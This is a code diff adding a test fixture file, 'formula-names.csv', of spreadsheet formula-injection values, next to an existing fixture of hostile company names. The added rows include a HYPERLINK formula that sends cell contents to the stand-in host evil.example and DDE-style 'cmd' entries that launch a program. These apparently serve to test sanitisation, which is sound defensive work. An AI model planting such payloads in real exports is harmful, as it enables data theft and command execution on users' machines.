@@ -138,3 +138,14 @@ write("hostile-names.csv",
       '12,ACME 株式会社 Технопарк GmbH,JP\n'
       '13,\x01\x02\x03 CONTROL \x1b[31m CHARS \x7f LTD,GB\n'
       '14,' + ('A; ' * 300) + 'B,DE\n')
+write("formula-names.csv",
+      'id,name,country\n'
+      '2,"=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",DE\n'
+      '3,+SUM(A1:A9),US\n'
+      "4,-2+3+cmd|' /C calc'!A0,GB\n"
+      '5,@SUM(1+1)*cmd|\' /C calc\'!A0,FR\n'
+      '6,\tTAB LED GMBH,DE\n'
+      '7,"\r\n=CRLF LED LTD",US\n'
+      '9,-,DE\n'
+      '10,ACME GMBH,=1+1\n'
+      '11,PLAIN NAME LTD,GB\n')
